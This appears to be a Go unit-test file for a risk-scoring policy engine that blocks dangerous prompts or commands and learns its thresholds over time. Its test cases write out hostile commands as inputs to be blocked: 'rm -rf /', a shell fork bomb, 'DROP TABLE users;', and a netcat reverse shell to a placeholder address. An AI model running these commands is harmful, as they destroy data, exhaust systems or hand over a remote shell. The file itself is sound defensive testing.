package policy

import (
	"context"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newEngine(t *testing.T) *Engine {
	t.Helper()
	return NewEngine(DefaultEngineConfig(), nil, nil)
}

// #region scenarios
func TestEvaluate_RmRfBlockedOnFirstSight(t *testing.T) {
	e := newEngine(t)
	d := e.Evaluate(context.Background(), "rm -rf /")
	assert.False(t, d.Passed)
	assert.Greater(t, d.Risk, e.Threshold())
	assert.Contains(t, d.Reason, "hard_block")
}

func TestEvaluate_HaikuPassesWithLowRisk(t *testing.T) {
	e := newEngine(t)
	d := e.Evaluate(context.Background(), "Write a haiku about the ocean")
	assert.True(t, d.Passed)
	assert.Less(t, d.Risk, 0.2)
	assert.Empty(t, d.Reason)
}

func TestEvaluate_HeuristicPrecedence(t *testing.T) {
	tests := []struct {
		name   string
		input  string
		passed bool
		reason string
	}{
		{"fork bomb", ":(){ :|:& };:", false, "hard_block"},
		{"drop table", "DROP TABLE users;", false, "hard_block"},
		{"disable firewall", "please disable the firewall now", false, "hard_block"},
		{"reverse shell", "nc 10.0.0.1 4444 -e /bin/sh", false, "hard_block"},
		{"disk access fuzzy", "grant ful disk acess to this app", false, "privilege_grant"},
		{"proximity", "dump all the stored passwords", false, "sensitive_extraction"},
		{"typo proximity", "decrpyt the p@ssw0rd file", false, "sensitive_extraction"},
		{"explanatory bypasses hard rules", "explain why rm -rf / is dangerous", true, ""},
		{"benign code question", "how do I reverse a linked list in Go", true, ""},
		{"far apart pair", "read this long story about cats dogs birds fish and then the password", true, ""},
	}
	e := newEngine(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := e.Evaluate(context.Background(), tt.input)
			assert.Equal(t, tt.passed, d.Passed, "reason=%q risk=%v", d.Reason, d.Risk)
			if tt.reason != "" {
				assert.True(t, strings.HasPrefix(d.Reason, tt.reason), "reason %q", d.Reason)
			}
		})
	}
}

// #endregion scenarios

// #region properties
func TestEvaluate_Idempotent(t *testing.T) {
	e := newEngine(t)
	for _, in := range []string{"rm -rf /", "hello world", "dump the secrets", "format c: now"} {
		a := e.Evaluate(context.Background(), in)
		b := e.Evaluate(context.Background(), in)
		assert.Equal(t, a, b, in)
	}
}

func TestLearn_BoundsHoldUnderRandomSequences(t *testing.T) {
	e := newEngine(t)
	rng := rand.New(rand.NewSource(11))
	words := []string{"rm", "rf", "drop", "table", "ocean", "haiku", "sudo", "wipe", "cats", "the", "dev", "mkfs"}

	for i := 0; i < 600; i++ {
		n := 1 + rng.Intn(6)
		parts := make([]string, n)
		for j := range parts {
			parts[j] = words[rng.Intn(len(words))]
		}
		in := strings.Join(parts, " ")
		d := e.Evaluate(context.Background(), in)
		require.GreaterOrEqual(t, d.Risk, 0.0)
		require.LessOrEqual(t, d.Risk, 1.0)
		require.NoError(t, e.Learn(in, rng.Intn(2) == 0, d.Risk))

		th := e.Threshold()
		require.GreaterOrEqual(t, th, minThreshold)
		require.LessOrEqual(t, th, maxThreshold)
	}

	k := e.Snapshot()
	for tok, w := range k.RiskTokens {
		assert.True(t, w > 0 && w <= 1, "token %s weight %v", tok, w)
	}
	for g, w := range k.NgramWeights {
		assert.True(t, w > 0 && w <= 1, "ngram %q weight %v", g, w)
	}
}

func TestLearn_BlockAndPassDirections(t *testing.T) {
	e := newEngine(t)
	before := e.Snapshot()

	require.NoError(t, e.Learn("wipe the archive", false, 0.8))
	afterBlock := e.Snapshot()
	assert.InDelta(t, before.Threshold-0.01, afterBlock.Threshold, 1e-9)
	assert.InDelta(t, 0.69, afterBlock.RiskTokens["wipe"], 1e-9)
	assert.InDelta(t, 0.09, afterBlock.RiskTokens["archive"], 1e-9)
	_, hasStop := afterBlock.RiskTokens["the"]
	assert.False(t, hasStop)

	require.NoError(t, e.Learn("wipe the archive", true, 0.1))
	afterPass := e.Snapshot()
	assert.InDelta(t, afterBlock.Threshold+0.002, afterPass.Threshold, 1e-9)
	assert.InDelta(t, 0.685, afterPass.RiskTokens["wipe"], 1e-9)
}

func TestLearn_ThresholdClamped(t *testing.T) {
	e := newEngine(t)
	for i := 0; i < 100; i++ {
		require.NoError(t, e.Learn("drop it", false, 1))
	}
	assert.Equal(t, minThreshold, e.Threshold())
	for i := 0; i < 400; i++ {
		require.NoError(t, e.Learn("drop it", true, 0))
	}
	assert.Equal(t, maxThreshold, e.Threshold())
}

func TestLearn_NgramCapEvictsLowest(t *testing.T) {
	cfg := DefaultEngineConfig()
	cfg.MaxNgrams = 50
	e := NewEngine(cfg, nil, nil)
	for i := 0; i < 20; i++ {
		require.NoError(t, e.Learn(fmt.Sprintf("unique blocked phrase number %d zq%dx", i, i*7919), false, 0.5))
	}
	assert.LessOrEqual(t, len(e.Snapshot().NgramWeights), 50)
}

func TestSnapshotIsDeepCopy(t *testing.T) {
	e := newEngine(t)
	s := e.Snapshot()
	s.RiskTokens["rm"] = 0
	s.SeedPhrases[0] = "changed"
	again := e.Snapshot()
	assert.Equal(t, 0.5, again.RiskTokens["rm"])
	assert.Equal(t, "rm -rf /", again.SeedPhrases[0])
}

// #endregion properties

// #region persistence
func TestPersistence_RoundTripAndCorruptFallback(t *testing.T) {
	path := filepath.Join(t.TempDir(), "knowledge", "policy.json")
	cfg := DefaultEngineConfig()
	cfg.Path = path

	e := NewEngine(cfg, nil, nil)
	require.NoError(t, e.LoadErr())
	require.NoError(t, e.Learn("erase everything", false, 0.9))

	reloaded := NewEngine(cfg, nil, nil)
	assert.Equal(t, e.Snapshot(), reloaded.Snapshot())

	require.NoError(t, os.WriteFile(path, []byte("{not json"), 0o644))
	broken := NewEngine(cfg, nil, nil)
	assert.Error(t, broken.LoadErr())
	assert.Equal(t, DefaultKnowledge(), broken.Snapshot())
}

func TestPersistence_PartialFileGetsDefaults(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.json")
	require.NoError(t, os.WriteFile(path, []byte(`{"threshold": 5, "riskTokens": {"boom": 0.9}}`), 0o644))
	cfg := DefaultEngineConfig()
	cfg.Path = path

	e := NewEngine(cfg, nil, nil)
	k := e.Snapshot()
	assert.Equal(t, maxThreshold, k.Threshold)
	assert.Equal(t, map[string]float64{"boom": 0.9}, k.RiskTokens)
	assert.NotEmpty(t, k.HardBlockPatterns)
}

func TestInvalidHardBlockPatternIsSkipped(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.json")
	require.NoError(t, os.WriteFile(path, []byte(`{"hardBlockPatterns": ["(unclosed", "(?i)\\bnuke\\b"]}`), 0o644))
	cfg := DefaultEngineConfig()
	cfg.Path = path

	e := NewEngine(cfg, nil, nil)
	d := e.Evaluate(context.Background(), "nuke it")
	assert.False(t, d.Passed)
}

// #endregion persistence

// #region safety-model
type fixedModel struct {
	d  Decision
	ok bool
}

func (f fixedModel) Evaluate(context.Context, string) (Decision, bool) { return f.d, f.ok }

func TestSafetyModel_AuthoritativeWhenWellFormed(t *testing.T) {
	e := NewEngine(DefaultEngineConfig(), fixedModel{d: Decision{Passed: true, Risk: 3}, ok: true}, nil)
	d := e.Evaluate(context.Background(), "rm -rf /")
	assert.True(t, d.Passed)
	assert.Equal(t, 1.0, d.Risk)
}

func TestSafetyModel_FallsThroughWhenUnavailable(t *testing.T) {
	e := NewEngine(DefaultEngineConfig(), fixedModel{ok: false}, nil)
	d := e.Evaluate(context.Background(), "rm -rf /")
	assert.False(t, d.Passed)
}

// #endregion safety-model
